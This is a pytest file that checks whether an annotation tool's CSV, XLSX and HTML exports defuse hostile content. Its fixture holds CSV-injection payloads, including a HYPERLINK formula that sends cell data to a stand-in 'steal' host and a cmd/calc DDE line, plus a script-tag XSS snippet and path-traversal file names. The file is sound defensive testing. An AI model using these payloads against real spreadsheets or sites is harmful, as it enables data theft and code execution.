"""Exports opened by other programs: a spreadsheet never runs a cell as a formula, a browser
never runs a document's markup. Each runs against the ``EXPORTERS`` registry; a format not
registered yet is skipped with its name."""

from __future__ import annotations

import csv
import html
import re
from pathlib import Path

import pytest

from annotator.core.model import Document
from annotator.io.formats import EXPORTERS
from annotator.store.project import Project

# Cells a spreadsheet would evaluate (OWASP "CSV injection"), written into a news text.
HOSTILE_TEXT = (
    '=HYPERLINK("http://example.invalid/steal?x="&A1,"خبر فوری")\n'
    "+1+cmd|' /C calc'!A0\n"
    "-2+3 گفته شد که قیمت‌ها بالا رفت.\n"
    "@SUM(1+1) به نقل از منابع محلی.\n"
    "<script>alert('ایران')</script> یک متن خبری <b>پررنگ</b> & «نقل قول».\n"
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def exporter(name: str):
    if name not in EXPORTERS:
        pytest.skip(f'the "{name}" export format is not registered yet (annotator/io/formats.py)')
    return EXPORTERS[name]


@pytest.fixture
def hostile_project(tmp_path) -> Project:
    with Project.create(tmp_path / "hostile.annotator") as project:
        doc = project.add_document(
            Document(
                name="=cmd|'/C calc'!A0",
                title="@SUM(A1:A9)",
                text=HOSTILE_TEXT,
                language="fa",
            )
        )
        for line_start, line in _lines(HOSTILE_TEXT):
            words = line.split(" ")
            project.new_span(
                doc.id,
                line_start,
                line_start + len(words[0]),
                "Claim",
                note="=1+2",
                attributes={"normalized_claim": "+98 21 1234"},
            )
        yield project


def _lines(text: str):
    start = 0
    for line in text.splitlines(keepends=True):
        if line.strip():
            yield start, line.rstrip("\n")
        start += len(line)


def test_csv_export_runs_no_cell_as_a_formula(hostile_project, tmp_path):
    out = tmp_path / "spans.csv"
    exporter("csv").write(hostile_project, out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    dangerous = [c for c in cells if c.startswith(TRIGGERS)]
    assert dangerous == []
    assert any(c.lstrip("'").startswith("=HYPERLINK") for c in cells), "the text is kept, defused"


def test_xlsx_export_holds_no_formula(hostile_project, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "spans.xlsx"
    exporter("xlsx").write(hostile_project, out)
    book = load_workbook(out)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [str(c.value) for c in cells if c.value is not None]
    assert any("=HYPERLINK" in v for v in values), "the text is kept, as text"


@pytest.mark.parametrize("per_document", [False, True], ids=["one-page", "page-per-document"])
def test_html_report_shows_markup_as_text(hostile_project, tmp_path, per_document):
    from annotator.io.selection import ExportOptions

    report = exporter("html")
    out = tmp_path / ("report" if per_document or report.folder else "report.html")
    report.write(hostile_project, out, options=ExportOptions(per_document=per_document))
    pages = sorted(out.rglob("*.html")) if out.is_dir() else [out]
    assert pages
    text = "\n".join(p.read_text(encoding="utf-8") for p in pages)
    assert "<script>alert" not in text and "<b>پررنگ</b>" not in text
    assert html.escape("<script>alert(") in text or "&lt;script&gt;alert(" in text
    scripts = re.findall(r"<script\b[^>]*>(.*?)</script>", text, flags=re.S)
    assert not any("ایران" in s for s in scripts), "the document's script must not run"


def test_every_format_writes_the_hostile_document(hostile_project, tmp_path):
    """Any registered format writes the hostile document without failing."""
    for name, fmt in sorted(EXPORTERS.items()):
        out = tmp_path / (name if fmt.folder else f"out{fmt.suffix}")
        where = fmt.write(hostile_project, out)
        assert isinstance(where, str) and Path(out).exists(), name


@pytest.mark.parametrize(
    "name", ["../../escaped", "/tmp/absolute-name", "..", "a/../../b", "CON", "a\\..\\..\\b"]
)
def test_folder_exports_keep_every_file_inside_the_folder(tmp_path, name):
    """A document's name becomes a file name in folder formats; it must never lead outside."""
    inside = tmp_path / "deep" / "er"
    inside.mkdir(parents=True)
    with Project.create(inside / "p.annotator") as project:
        doc = project.add_document(Document(name=name, text=HOSTILE_TEXT, language="fa"))
        project.new_span(doc.id, 0, 10, "Claim")
        before = {p for p in tmp_path.rglob("*")}
        from annotator.io.selection import ExportOptions

        folders = {n: f for n, f in EXPORTERS.items() if f.folder}
        folders["html"] = exporter("html")
        for format_name, fmt in sorted(folders.items()):
            out = inside / f"out-{format_name}"
            fmt.write(project, out, options=ExportOptions(per_document=True))
        after = {p for p in tmp_path.rglob("*")}
    strays = [p for p in after - before if inside not in p.parents]
    assert strays == []
    assert not Path("/tmp/absolute-name").exists()


# Pasted from word processors and terminals: a vertical tab (Word's line break) and an escape.
CONTROL_TEXT = "سطر اول\x0bسطر دوم \x1b[31m قرمز\x0c پایان"
KNOWN_CRASHES: dict[str, str] = {}


@pytest.mark.parametrize(
    "name",
    [
        pytest.param(
            n,
            marks=[pytest.mark.xfail(raises=ValueError, strict=True, reason=KNOWN_CRASHES[n])]
            if n in KNOWN_CRASHES
            else [],
        )
        for n in sorted(EXPORTERS)
    ],
)
def test_every_format_writes_control_characters_or_refuses_clearly(tmp_path, name):
    from annotator.core.errors import AnnotatorError

    fmt = EXPORTERS[name]
    with Project.create(tmp_path / "p.annotator") as project:
        doc = project.add_document(Document(name="pasted", text=CONTROL_TEXT, language="fa"))
        project.new_span(doc.id, 0, 3, "Claim")
        out = tmp_path / (name if fmt.folder else f"out{fmt.suffix}")
        try:
            fmt.write(project, out)
        except AnnotatorError as exc:
            assert "pasted" in str(exc) or str(out) in str(exc)
        else:
            assert out.exists()
